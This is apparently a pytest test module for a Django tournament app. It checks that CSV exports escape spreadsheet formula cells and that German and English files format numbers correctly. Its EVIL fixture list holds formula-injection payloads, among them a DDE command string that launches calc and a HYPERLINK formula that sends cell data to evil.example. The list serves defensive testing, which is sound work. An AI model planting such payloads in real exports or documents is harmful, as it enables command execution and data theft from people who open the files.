"""Every CSV export: formula cells escaped, German files open in German Excel
with numbers as numbers (decimal comma), English files keep the point."""

import csv
import io

import pytest
from django.urls import reverse

from scoring.exchange.views import HEADERS
from scoring.standings import listings
from tests.scoring import handmade
from tournaments.models import Team

pytestmark = pytest.mark.django_db

EVIL = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def evil(tournament, organizer):
    handmade.build(tournament, organizer)
    team = Team.objects.create(tournament=tournament, name="=1+2")
    for player, name in zip(tournament.players.order_by("pk"), EVIL * 2, strict=False):
        player.name = f"{name} {player.pk}" if not name.startswith(("\t", "\r")) else name
        player.club = "@evil"
        player.team = team
        player.save()
    return tournament


def download(client, tournament, what, language):
    client.cookies["django_language"] = language
    response = client.get(
        reverse("export", args=[tournament.pk, what, "csv"]), HTTP_ACCEPT_LANGUAGE=language
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return response.content.decode("utf-8-sig")


@pytest.mark.parametrize("language", ["de", "en"])
@pytest.mark.parametrize("what", sorted(listings.EXPORTS))
def test_every_csv_export_escapes_formula_cells(client, organizer, evil, what, language):
    client.force_login(organizer)
    text = download(client, evil, what, language)
    delimiter = ";" if language == "de" else ","
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    assert len(rows) > 1
    # the header row is in the file's language (tests/exchange/test_csv_headers.py)
    header = HEADERS[what]
    assert len(rows[0]) == len(header)
    numeric = {"place", "points", "figures", "opponents", "rank", "figure", "rating", "games"}
    seen_text = False
    for row in rows[1:]:
        for name, value in zip(header, row, strict=True):
            if name in numeric or value == "":
                continue
            if name in {"name", "club", "team"}:
                seen_text = True
                assert not value.startswith(FORMULA), (what, name, value)
    assert seen_text


def test_every_export_kind_is_tested_and_offered(client, organizer, evil):
    client.force_login(organizer)
    page = client.get(reverse("export_center", args=[evil.pk])).content.decode()
    for what in listings.EXPORTS:
        assert reverse("export", args=[evil.pk, what, "csv"]) in page


def test_german_standings_open_as_numbers_in_german_excel(client, organizer, evil):
    client.force_login(organizer)
    text = download(client, evil, "standings", "de")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";", fieldnames=HEADERS["standings"]))
    assert rows.pop(0)["points"] == "Punkte"  # the German header row

    def german_number(value: str) -> float:
        # German Excel: "." would be a thousands separator, "," the decimal point
        assert "." not in value
        return float(value.replace(",", "."))

    points = [german_number(r["points"]) for r in rows]
    assert 4.5 in points and points == sorted(points, reverse=True)
    assert any(r["opponents"] == "2,333" for r in rows)
    assert all(german_number(r["place"]).is_integer() for r in rows)


def test_english_standings_keep_the_decimal_point(client, organizer, evil):
    client.force_login(organizer)
    text = download(client, evil, "standings", "en")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=","))
    assert any(r["points"] == "4.5" for r in rows)
